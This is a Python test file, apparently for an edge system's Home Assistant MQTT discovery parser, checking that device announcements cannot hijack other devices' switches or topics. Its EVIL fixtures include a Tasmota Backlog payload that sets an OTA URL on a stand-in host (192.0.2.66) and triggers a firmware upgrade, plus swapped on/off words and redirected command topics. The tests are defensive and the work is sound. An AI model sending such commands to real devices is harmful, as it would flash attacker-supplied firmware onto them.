"""Devices that announce themselves: theirs is what lies in their own tree, and what is not understood is refused."""

import json
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edge.equipment_watch.home_assistant import HomeAssistant
from edge.equipment_watch.words import (
    AboutHeard,
    Heard,
    OnlineHeard,
    Outgoing,
    ReadingsHeard,
    StrangerHeard,
    Unreadable,
)
from models.measurements import Value
from models.room_messages import DeviceCommand, DeviceCommandName
from models.telemetry import cut_found
from tests.builders.foreign_devices import (
    BOARD,
    DOOR,
    GUESTS,
    PLUG,
    STICK,
    Said,
    esphome,
    payload_of,
    tasmota,
    whole_device,
    zigbee,
)
from tests.builders.room_plans import DEVICES, plan

NOW = datetime(2026, 11, 22, 7, 0, tzinfo=UTC)


class Room:
    """A dialect of a plan, and what it heard."""

    def __init__(self) -> None:
        self.dialect = HomeAssistant(plan(devices=(*DEVICES, *GUESTS)))

    def hear(self, topic: str, payload: bytes) -> tuple[Heard, ...]:
        return self.dialect.hear(f"guests/{topic}", payload, NOW)

    def announce(self, *said: Said) -> list[Heard]:
        return [word for topic, words in said for word in self.hear(topic, payload_of(words))]

    def values(self, topic: str, payload: bytes, device: str) -> dict[str, Value]:
        (heard,) = [
            word for word in self.hear(topic, payload) if isinstance(word, ReadingsHeard) and word.device_id == device
        ]
        return heard.values


def _about(words: list[Heard], device: str) -> AboutHeard:
    return [word for word in words if isinstance(word, AboutHeard) and word.device_id == device][-1]


def test_announcements_are_subscribed_before_what_they_announce_and_no_topic_twice() -> None:
    filters = Room().dialect.filters()
    assert filters[:2] == ("guests/homeassistant/+/+/config", "guests/homeassistant/+/+/+/config")
    assert filters[2:4] == ("guests/tasmota/discovery/+/config", "guests/tasmota/discovery/+/sensors")
    assert set(filters[4:]) == {
        f"guests/{one}/#" for one in ("plug-1", "tele/plug-1", "stat/plug-1", "garden", "tele/garden", "stat/garden")
    } | {"guests/zigbee2mqtt/#", "guests/tele/zigbee2mqtt/#", "guests/stat/zigbee2mqtt/#"}


def test_a_tasmota_plug_is_read_by_its_own_announcement() -> None:
    room = Room()
    about = _about(room.announce(*tasmota()), PLUG).about
    assert (about.maker, about.model, about.firmware) == ("Tasmota", "Sonoff S31", "8.5.1(tasmota)")
    assert {name: metric.unit for name, metric in about.metrics.items()} == {
        "power": "",
        "electric_power": "W",
        "4c75aa_status": "%",
    }
    assert room.values("tele/plug-1/STATE", b'{"POWER":"ON","Wifi":{"SSId":"x"}}', PLUG) == {"power": "on"}
    assert room.values("tele/plug-1/SENSOR", b'{"ENERGY":{"Power":41.5}}', PLUG) == {"electric_power": 41.5}
    assert room.hear("tele/plug-1/LWT", b"Offline") == (OnlineHeard(device_id=PLUG, on=False),)
    assert room.hear("tele/plug-1/LWT", b"Online") == (OnlineHeard(device_id=PLUG, on=True),)


def test_an_esphome_board_is_read_and_its_texts_are_not() -> None:
    room = Room()
    assert set(_about(room.announce(*esphome()), BOARD).about.metrics) == {"temperature"}
    assert room.values("garden/sensor/air/state", b"27.4", BOARD) == {"temperature": 27.4}
    assert room.hear("garden/sensor/air/state", b"nan") == ()
    assert room.hear("garden/sensor/ssid/state", b"Truong-Wifi") == ()
    assert room.hear("garden/status", b"offline") == (OnlineHeard(device_id=BOARD, on=False),)


def test_a_zigbee_door_is_a_device_of_its_own_below_its_bridges_base_topic() -> None:
    room = Room()
    room.announce(*zigbee())
    assert room.values("zigbee2mqtt/Cửa tủ", b'{"battery":97,"contact":false}', DOOR) == {"battery": 97, "door": True}
    assert room.values("zigbee2mqtt/Cửa tủ", b'{"contact":true}', DOOR) == {"door": False}
    assert room.hear("zigbee2mqtt/bridge/state", b'{"state":"offline"}') == (OnlineHeard(device_id=DOOR, on=False),)


def test_a_zigbee_device_without_a_plan_is_a_stranger_and_never_its_bridges_reading() -> None:
    room = Room()
    words = room.announce(*zigbee("Đèn", "0x00158d0002"))
    assert {type(word) for word in words} == {StrangerHeard}
    assert isinstance(words[0], StrangerHeard)
    found = words[0].found
    assert (found.where, found.what, found.maker) == ("mqtt zigbee2mqtt/Đèn", "Đèn", "Aqara")
    assert json.loads(found.link) == {"type": "mqtt", "dialect": "home assistant", "name": "zigbee2mqtt/Đèn"}
    assert not [word for word in room.hear("zigbee2mqtt/Đèn", b'{"contact":true}') if isinstance(word, ReadingsHeard)]


@pytest.mark.parametrize(
    ("said", "name"), [(tasmota("other"), "other"), (esphome("other"), "other"), ([whole_device("other")], "other")]
)
def test_a_device_that_nobody_planned_appears_by_itself_once(said: list[Said], name: str) -> None:
    words = Room().announce(*said)
    assert {word.found.where for word in words if isinstance(word, StrangerHeard)} == {f"mqtt {name}"}
    assert not any(isinstance(word, ReadingsHeard | AboutHeard) for word in words)
    link = next(word.found.link for word in words if isinstance(word, StrangerHeard))
    assert '"home assistant"' in link


def test_a_stranger_is_its_accounts_where_a_right_binds_it_and_else_nobodys() -> None:
    room = Room()

    def guests(name: str) -> set[str | None]:
        said = [(topic.replace("/other/", f"/{name}/"), what) for topic, what in esphome("other")]
        return {word.guest for word in room.announce(*said) if isinstance(word, StrangerHeard)}

    assert guests(BOARD) == {BOARD}
    assert guests("dev-made-up") == guests("anything") == {""}


def test_what_a_stranger_says_of_itself_is_cut_to_what_fits_and_its_link_is_whole_or_none() -> None:
    words = Room().announce(*zigbee("Đ" * 200, "0x00158d0002"))
    found = next(word.found for word in words if isinstance(word, StrangerHeard))
    assert found == cut_found(found)
    assert json.loads(found.link)["name"] == "zigbee2mqtt/" + "Đ" * 200


def test_a_whole_device_comes_with_one_announcement_in_our_units() -> None:
    room = Room()
    about = _about(room.announce(whole_device()), BOARD).about
    assert (about.maker, about.serial, about.via) == (
        "Bla electronics",
        "ea334450945afc",
        "home assistant discovery bla2mqtt",
    )
    assert room.values("garden/state", b'{"temperature":"77.04","humidity":50}', BOARD) == {
        "temperature": 25.0,
        "humidity": 50,
    }


def test_a_component_without_more_than_its_platform_is_gone() -> None:
    room = Room()
    topic, words = whole_device()
    room.announce((topic, words))
    gone = json.loads(json.dumps(words))
    gone["cmps"]["two"] = {"p": "sensor"}
    assert set(_about(room.announce((topic, gone)), BOARD).about.metrics) == {"temperature"}


def test_an_empty_announcement_takes_an_entity_away() -> None:
    room = Room()
    said = tasmota()
    room.announce(*said)
    (word,) = room.hear(said[1][0], b"")
    assert isinstance(word, AboutHeard)
    assert "electric_power" not in word.about.metrics
    assert room.hear("tele/plug-1/SENSOR", b'{"ENERGY":{"Power":41.5}}') == ()
    assert room.hear("homeassistant/sensor/never/config", b"") == ()


def test_an_entity_that_points_into_another_devices_tree_is_refused() -> None:
    room = Room()
    room.announce(*tasmota())
    topic, words = whole_device()
    parts = {"one": {"p": "sensor", "dev_cla": "temperature", "unit_of_meas": "°C", "stat_t": "garden/t"}}
    parts["two"] = {"p": "sensor", "dev_cla": "power", "unit_of_meas": "W", "stat_t": "tele/plug-1/SENSOR"}
    words = {"dev": {"name": "x"}, "cmps": parts}
    assert room.announce((topic, words)) == [Unreadable(device_id=BOARD, why="an entity with another device's topics")]
    commanded = {"stat_t": "garden/relay", "cmd_t": "cmnd/plug-1/POWER", "dev": {"name": "x"}}
    heard = room.announce(("homeassistant/switch/garden/relay/config", commanded))
    assert heard == [Unreadable(device_id=BOARD, why="an entity with another device's topics")]


def test_a_template_that_is_a_program_is_refused_and_counted() -> None:
    topic, words = esphome()[0]
    program = {**words, "val_tpl": "{{ value_json.t * 3 if now() else 0 }}"}
    assert Room().announce((topic, program)) == [Unreadable(device_id=None, why="a template that is not carried out")]


def test_only_so_many_entities_of_a_device_are_taken_sensors_first() -> None:
    room = Room()
    parts: dict[str, object] = {f"relay{n}": {"p": "switch", "stat_t": f"garden/r{n}"} for n in range(10)}
    parts |= {f"t{n}": {"p": "sensor", "unit_of_meas": "V", "stat_t": f"garden/t{n}"} for n in range(60)}
    heard = room.announce(("homeassistant/device/x/config", {"dev": {"name": "x"}, "cmps": parts}))
    assert Unreadable(device_id=BOARD, why="more entities than a device may have") in heard
    metrics = _about(heard, BOARD).about.metrics
    assert len(metrics) == 64
    assert sum(name.startswith("power") for name in metrics) == 4
    another = {"dev_cla": "humidity", "unit_of_meas": "%", "stat_t": "garden/h", "dev": {"name": "x"}}
    heard = room.announce(("homeassistant/sensor/y/h/config", another))
    assert heard == [Unreadable(device_id=BOARD, why="more entities than a device may have")]


def test_an_announcement_that_is_too_large_is_not_read() -> None:
    topic, words = whole_device()
    assert Room().announce((topic, {**words, "x": "x" * 70_000})) == [
        Unreadable(device_id=None, why="an announcement that is too large")
    ]


def test_two_of_a_kind_have_names_that_do_not_change_places() -> None:
    room = Room()
    for key in ("b", "a"):
        words = {"dev_cla": "temperature", "unit_of_meas": "°C", "stat_t": f"garden/{key}", "uniq_id": key}
        room.announce((f"homeassistant/sensor/garden/{key}/config", words))
    assert room.values("garden/a", b"20", BOARD) == {"temperature": 20}
    assert room.values("garden/b", b"30", BOARD) == {"temperature_2": 30}


def test_a_state_that_came_before_its_announcement_is_heard_then() -> None:
    room = Room()
    assert room.hear("tele/plug-1/STATE", b'{"POWER":"OFF"}') == ()
    assert room.hear("tele/plug-1/LWT", b"Online") == ()
    heard = room.announce(*tasmota())
    assert ReadingsHeard(device_id=PLUG, at=NOW, values={"power": "off"}, units={"power": ""}) in heard
    assert OnlineHeard(device_id=PLUG, on=True) in heard


def test_a_planned_switch_is_switched_as_it_says_itself() -> None:
    room = Room()
    command = DeviceCommand(id="c", name=DeviceCommandName.SWITCH_OFF, expires_at=0)
    assert room.dialect.say(PLUG, command) == ()
    room.announce(*tasmota())
    assert room.dialect.say(PLUG, command) == (Outgoing(topic="guests/cmnd/plug-1/POWER", payload=b"OFF"),)
    assert room.dialect.say(STICK, command) == room.dialect.say("dev-other", command) == ()
    for name in set(DeviceCommandName) - {DeviceCommandName.SWITCH_ON, DeviceCommandName.SWITCH_OFF}:
        assert room.dialect.say(PLUG, DeviceCommand(id="c", name=name, expires_at=0)) == ()
    assert not room.dialect.answers(PLUG)


SWITCH_OFF = DeviceCommand(id="c", name=DeviceCommandName.SWITCH_OFF, expires_at=0)
PLUGGED_OFF = (Outgoing(topic="guests/cmnd/plug-1/POWER", payload=b"OFF"),)


def _switch(**words: object) -> Said:
    usual = {"stat_t": "stat/plug-1/POWER", "cmd_t": "cmnd/plug-1/POWER", "uniq_id": "!", "dev": {"name": "x"}}
    return "homeassistant/switch/evil/config", {**usual, **words}


EVIL: list[dict[str, object]] = [
    {"cmd_t": "cmnd/plug-1/Backlog", "pl_off": "OtaUrl http://192.0.2.66/x.bin;Upgrade 1"},
    {"cmd_t": "cmnd/plug-1/Backlog"},
    {"pl_off": "OtaUrl http://192.0.2.66/x.bin"},
    {"pl_off": "ON", "pl_on": "OFF", "stat_on": "ON", "stat_off": "OFF"},
    {"cmd_t": "cmnd/plug-1/POWER/x"},
    {"cmd_t": "plug-1/cmnd/Backlog"},
]


@pytest.mark.parametrize("words", EVIL)
def test_a_later_announcement_does_not_take_a_switch_over(words: dict[str, object]) -> None:
    room = Room()
    room.announce(*tasmota())
    room.announce(_switch(**words))
    assert room.dialect.say(PLUG, SWITCH_OFF) == PLUGGED_OFF
    room.hear(tasmota()[0][0], b"")
    assert room.dialect.say(PLUG, SWITCH_OFF) == (), "nor is it asked of the other when the first is gone"


@pytest.mark.parametrize("words", EVIL)
def test_an_announcement_brings_neither_topics_nor_payloads_of_its_own(words: dict[str, object]) -> None:
    room = Room()
    room.announce(_switch(**words))
    assert room.dialect.say(PLUG, SWITCH_OFF) == ()


@pytest.mark.parametrize(("on", "off"), [("OFF", "ON"), ("false", "true"), ("0", "1")])
def test_a_switch_whose_words_are_turned_round_is_refused(on: str, off: str) -> None:
    heard = Room().announce(_switch(stat_on=on, stat_off=off))
    assert heard == [Unreadable(device_id=PLUG, why="a switch whose words are turned round")]


@pytest.mark.parametrize("payload", ['{"state": "OFF"}', '{"state":"OFF"}', "off", "0", "false", False, 0])
def test_the_payloads_that_makers_use_are_sent(payload: object) -> None:
    room = Room()
    topic, words = _switch(pl_off=payload, pl_on="ON", stat_on="ON", stat_off="OFF")
    room.announce((topic, words))
    (said,) = room.dialect.say(PLUG, SWITCH_OFF)
    assert said.payload.decode() == (str(payload).lower() if isinstance(payload, bool) else str(payload))


@pytest.mark.parametrize("topic", ["zigbee2mqtt/Cửa tủ/set", "zigbee2mqtt/Cửa tủ/l1/set"])
def test_a_bridge_switches_nothing_in_the_tree_of_a_device_that_it_carries(topic: str) -> None:
    room = Room()
    words = {"stat_t": "zigbee2mqtt/x", "cmd_t": topic, "uniq_id": "!", "dev": {"name": "x"}}
    heard = room.announce(("homeassistant/switch/zigbee2mqtt/x/config", words))
    assert heard == [Unreadable(device_id=STICK, why="an entity with another device's topics")]


def test_a_device_is_not_crowded_out_of_its_own_announcements() -> None:
    room = Room()
    parts = {f"c{n}": {"p": "sensor", "stat_t": f"garden/s{n}", "unit_of_meas": "V"} for n in range(64)}
    room.announce(("homeassistant/device/evil/config", {"dev": {"name": "x"}, "cmps": parts}))
    assert "temperature" in _about(room.announce(*esphome()), BOARD).about.metrics


def test_what_a_device_announces_on_its_own_topics_is_named_before_what_came_elsewhere() -> None:
    room = Room()
    shadow = {"dev_cla": "temperature", "unit_of_meas": "°C", "stat_t": "garden/other", "uniq_id": "!"}
    room.announce(("homeassistant/sensor/evil/config", shadow), *esphome())
    assert room.values("garden/sensor/air/state", b"27", BOARD) == {"temperature": 27}


@pytest.mark.parametrize("level", ["garden", BOARD, "dev-nobodys"])
def test_what_another_device_announces_on_its_topics_is_not_taken(level: str) -> None:
    words = _switch()[1]
    heard = Room().announce((f"homeassistant/switch/{level}/x/config", words))
    assert heard == [Unreadable(device_id=PLUG, why="an announcement by another device")]


def test_an_announcement_never_goes_over_to_another_device() -> None:
    room = Room()
    first, *_ = tasmota()
    room.announce(first)
    heard = room.announce((first[0], {"stat_t": "garden/x", "dev": {"name": "x"}}))
    assert heard == [Unreadable(device_id=PLUG, why="an announcement that becomes another device's")]
    assert room.dialect.say(PLUG, SWITCH_OFF) == PLUGGED_OFF


def test_words_of_the_rooms_own_broker_are_none_of_its() -> None:
    room = Room()
    topic, words = tasmota()[0]
    assert room.dialect.hear(topic, payload_of(words), NOW) == ()


KEYS = (
    "stat_t", "val_tpl", "dev", "cmps", "avty", "avty_t", "~", "dev_cla", "unit_of_meas", "uniq_id", "p", "cmd_t", "o",
    "pl_on", "name", "topic", "stat_cla",
)  # fmt: skip
WORDS = ("garden/x", "~/x", "°C", "temperature", "sensor", "switch", "{{ value }}", "{{ value_json.a[0] }}", "#", "")
LEAVES = st.none() | st.booleans() | st.integers() | st.floats() | st.sampled_from(WORDS) | st.text(max_size=5)
JSON = st.recursive(
    LEAVES,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS), inner, max_size=6),
    max_leaves=12,
)


@settings(max_examples=40)
@given(
    st.sampled_from(["sensor", "binary_sensor", "switch", "device", "light"]),
    st.lists(st.dictionaries(st.sampled_from(KEYS), JSON, max_size=10), max_size=4),
    JSON,
)
def test_no_announcement_and_no_state_raises(component: str, announced: list[object], state: object) -> None:
    room = Room()
    for number, words in enumerate(announced):
        room.hear(f"homeassistant/{component}/garden/{number % 2}/config", json.dumps(words).encode())
        for topic in ("garden/x", "garden/", "garden"):
            room.hear(topic, json.dumps(state).encode())


@given(st.text(max_size=30), st.binary(max_size=60))
def test_no_topic_and_no_bytes_raise(topic: str, payload: bytes) -> None:
    room = Room()
    room.hear(topic, payload)
    room.hear(f"homeassistant/{topic}/config", payload)
    room.hear(f"homeassistant/device/{topic.replace('/', '')}/config", payload)
